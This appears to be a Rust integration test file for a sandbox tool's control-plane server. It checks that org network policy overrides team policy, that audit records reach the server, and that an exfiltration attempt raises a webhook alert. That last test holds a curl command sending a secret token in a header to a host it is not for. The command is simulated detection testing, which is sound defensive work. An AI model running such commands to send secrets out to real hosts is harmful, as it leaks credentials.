//! The control plane against a real guest: a machine signed in to an
//! `sbx-server` (running here, on the nested host's loopback) gets the
//! org's and its team's policy at session start, and a session on it is
//! refused the host the org denies even though the team allows it; its
//! records name the person and the machine as the server knows them.

use std::time::Duration;

use sbx_tests::server::Server;
use sbx_tests::{text, Host};
use serde_json::{json, Value};

const ORG: &str = "layer = \"org\"\n\n[[network]]\nid = \"org-no-paste\"\naction = \"deny\"\nto = [\"paste.test\"]\n";
const TEAM: &str = "layer = \"team\"\n\n[[network]]\nid = \"team-paste\"\naction = \"allow\"\nto = [\"paste.test\", \"api.web.test\"]\n";

/// A server with team `web`, its member bob, the org policy `org` (and
/// the team's, `team`), and `host` signed in to it as bob's machine
/// `bobs-laptop`. Returns the server, the admin's token and bob's.
fn signed_in(host: &Host, org: &str, team: Option<&str>) -> (Server, String, String) {
    let data = host.dir.path().join("server");
    let (server, setup) = Server::start(&data, Duration::from_secs(3600));
    let admin = server.first_admin(&setup);
    server.call("POST", "/api/v1/teams", &admin, json!({"name": "web"}));
    let bob = server.call(
        "POST",
        "/api/v1/users",
        &admin,
        json!({"email": "bob@acme.example", "role": "member", "team": "web"}),
    );
    let bob = bob["token"].as_str().unwrap().to_string();
    server.call(
        "PUT",
        "/api/v1/policy/org",
        &admin,
        Value::String(org.into()),
    );
    if let Some(team) = team {
        server.call(
            "PUT",
            "/api/v1/policy/teams/web",
            &admin,
            Value::String(team.into()),
        );
    }
    sbx_tests::sign_in(
        host.cmd(&["login", &server.url, "--machine", "bobs-laptop"]),
        |code| {
            server.call(
                "POST",
                "/api/v1/device/approve",
                &bob,
                json!({"user_code": code}),
            );
        },
    );
    (server, admin, bob)
}

#[test]
fn a_signed_in_machine_runs_sessions_under_the_servers_policy() {
    let host = Host::new();
    let data = host.dir.path().join("server");
    let (mut server, admin, bob) = signed_in(&host, ORG, Some(TEAM));
    let url = server.url.clone();

    host.ok(&["start", "--name", "m", "--no-workspace"]);
    let out = host.sh("m", "curl -sS --max-time 20 http://paste.test/");
    let body = text(&out.stdout);
    assert!(
        body.contains("rule `org-no-paste`"),
        "{body}{}",
        text(&out.stderr)
    );
    assert!(body.contains("org-v1.bundle"), "{body}");
    let events = host.events("m");
    let start = events.iter().find(|e| e["action"] == "start").unwrap();
    assert_eq!(start["user"], "bob@acme.example");
    assert_eq!(start["host"], "bobs-laptop");
    assert_eq!(start["details"]["team"], "web");
    let denied = events
        .iter()
        .find(|e| e["rule_id"] == "org-no-paste")
        .unwrap_or_else(|| panic!("no decision by the org rule: {events:#?}"));
    assert_eq!(denied["layer"], "org");

    // The records reach the server: the session ships its own as it runs.
    let c = reqwest::blocking::Client::new();
    let count = |session: &str| -> usize {
        let r = c
            .get(format!("{url}/api/v1/audit?session={session}&limit=10000"))
            .bearer_auth(&admin)
            .send()
            .unwrap();
        let lines: Vec<Value> = r
            .text()
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        let seqs: std::collections::BTreeSet<u64> =
            lines.iter().map(|l| l["seq"].as_u64().unwrap()).collect();
        assert_eq!(seqs.len(), lines.len(), "a record twice on the server");
        lines.len()
    };
    let local = |session: &str| -> usize {
        std::fs::read_to_string(host.dir.path().join(format!("state/audit/{session}.jsonl")))
            .unwrap()
            .lines()
            .count()
    };
    let shipped = (0..40).any(|_| {
        std::thread::sleep(Duration::from_millis(500));
        count("m") >= local("m")
    });
    assert!(
        shipped,
        "the running session's records did not reach the server: {} of {}",
        count("m"),
        local("m")
    );

    // The dashboard shows this real session to bob: the refusal links to
    // the line of the org policy version that made it.
    let nc = reqwest::blocking::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let r = nc
        .post(format!("{url}/ui/signin"))
        .form(&[("token", bob.as_str())])
        .send()
        .unwrap();
    let cookie = r.headers()["set-cookie"].to_str().unwrap();
    let cookie = cookie.split(';').next().unwrap().to_string();
    let page = nc
        .get(format!("{url}/ui/sessions/bobs-laptop/m"))
        .header("cookie", &cookie)
        .send()
        .unwrap()
        .text()
        .unwrap();
    assert!(
        page.contains("paste.test") && page.contains("/ui/policy/org?v=1#L"),
        "{page}"
    );
    assert!(page.contains("Chain intact"), "{page}");
    host.ok(&["stop", "m"]);

    // A second session; the server goes away; the session is killed mid-stream.
    host.ok(&["start", "--name", "m2", "--no-workspace"]);
    host.sh("m2", "true");
    let addr = url.trim_start_matches("http://").to_string();
    server.stop();
    for i in 0..5 {
        host.sh("m2", &format!("echo {i}"));
    }
    let pid = host.session("m2")["pid"].as_i64().unwrap() as i32;
    // SAFETY: kills the session process this test started.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    (server, _) = Server::start_at(&data, Duration::from_secs(3600), &addr);
    let o = host.sbx(&["audit", "ship"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    for s in ["m", "m2"] {
        assert_eq!(count(s), local(s), "session {s}: every record once");
    }
    server.stop();
}

const EXFIL_ORG: &str = r#"layer = "org"

[[network]]
id = "test-hosts"
action = "allow"
to = ["allowed.test", "other.test"]
ports = [443]

[[network]]
id = "test-server-address"
action = "allow"
to = ["127.0.0.2"]
ports = [443]

[[credential]]
id = "token-to-allowed"
action = "allow"
secret = "TEST_TOKEN"
hosts = ["allowed.test"]
header = "Authorization"
format = "Bearer {secret}"
"#;

/// A webhook receiver: each POST's body with when it came; while `down`,
/// it answers 503, as a receiver that is away would fail.
struct Hook {
    url: String,
    got: std::sync::Arc<std::sync::Mutex<Vec<(std::time::Instant, String)>>>,
    down: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl Hook {
    fn start() -> Hook {
        use std::io::{BufRead, BufReader, Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/hook", listener.local_addr().unwrap());
        let hook = Hook {
            url,
            got: Default::default(),
            down: Default::default(),
        };
        let (got, down) = (hook.got.clone(), hook.down.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                let mut r = BufReader::new(conn.try_clone().unwrap());
                let mut len = 0;
                loop {
                    let mut line = String::new();
                    if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                        break;
                    }
                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                }
                let mut body = vec![0; len];
                let _ = r.read_exact(&mut body);
                let away = down.load(std::sync::atomic::Ordering::SeqCst);
                let status = if away { "503 Away" } else { "200 OK" };
                let _ = write!(
                    &conn,
                    "HTTP/1.1 {status}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                );
                if !away {
                    got.lock().unwrap().push((
                        std::time::Instant::now(),
                        String::from_utf8_lossy(&body).into(),
                    ));
                }
            }
        });
        hook
    }

    /// The `n`th alert delivered (from 1), waiting up to `secs`.
    fn nth(&self, n: usize, secs: u64) -> Option<(std::time::Instant, Value)> {
        let deadline = std::time::Instant::now() + Duration::from_secs(secs);
        while std::time::Instant::now() < deadline {
            if let Some((at, body)) = self.got.lock().unwrap().get(n - 1) {
                return Some((*at, serde_json::from_str(body).unwrap()));
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }
}

/// An exfiltration attempt in a real session (a secret's placeholder sent
/// to a host the secret is not for) reaches a webhook in seconds: the
/// session ships the record at once, the server raises the alert, its
/// worker delivers it. With the receiver away, it is delivered once back.
#[test]
fn an_exfiltration_in_a_real_session_reaches_a_webhook() {
    let host = Host::new();
    let dir = host.dir.path();
    let (mut server, admin, _) = signed_in(&host, EXFIL_ORG, None);
    let hook = Hook::start();
    server.call(
        "POST",
        "/api/v1/webhooks",
        &admin,
        json!({"url": hook.url, "format": "json"}),
    );
    host.secret("TEST_TOKEN", "s3cr3t-that-stays-on-the-host");
    let ca = sbx_tests::tls::TestCa::new();
    let ca_path = dir.join("test-ca.pem");
    std::fs::write(&ca_path, ca.pem()).unwrap();
    sbx_tests::tls::https_server("127.0.0.2:443", ca.server_config(&["other.test"]));
    host.ok(&[
        "start",
        "--name",
        "x",
        "--no-workspace",
        "--upstream-ca",
        ca_path.to_str().unwrap(),
        "--resolve",
        "other.test:127.0.0.2",
    ]);
    let leak =
        "curl -sS --max-time 20 -o /dev/null -H \"X-Token: $TEST_TOKEN\" https://other.test/";

    host.sh("x", leak);
    let tried = std::time::Instant::now();
    let (at, alert) = hook.nth(1, 60).expect("no webhook delivery");
    let latency = at.saturating_duration_since(tried);
    println!("exfiltration to webhook: {latency:?} (nested test host)");
    assert_eq!(alert["alert"]["kind"], "exfiltration", "{alert}");
    assert_eq!(alert["alert"]["machine"], "bobs-laptop");
    assert_eq!(alert["alert"]["session"], "x");
    assert!(
        alert["alert"]["summary"]
            .as_str()
            .unwrap()
            .contains("TEST_TOKEN to other.test"),
        "{alert}"
    );
    assert!(latency < Duration::from_secs(30), "{latency:?}");

    // The receiver away: the second attempt's alert waits, then arrives.
    hook.down.store(true, std::sync::atomic::Ordering::SeqCst);
    host.sh("x", leak);
    std::thread::sleep(Duration::from_secs(4));
    assert_eq!(hook.got.lock().unwrap().len(), 1);
    hook.down.store(false, std::sync::atomic::Ordering::SeqCst);
    let (_, again) = hook
        .nth(2, 60)
        .expect("not delivered once the receiver was back");
    assert_eq!(again["alert"]["kind"], "exfiltration");
    assert_ne!(again["alert"]["seq"], alert["alert"]["seq"]);
    host.ok(&["stop", "x"]);
    server.stop();
}
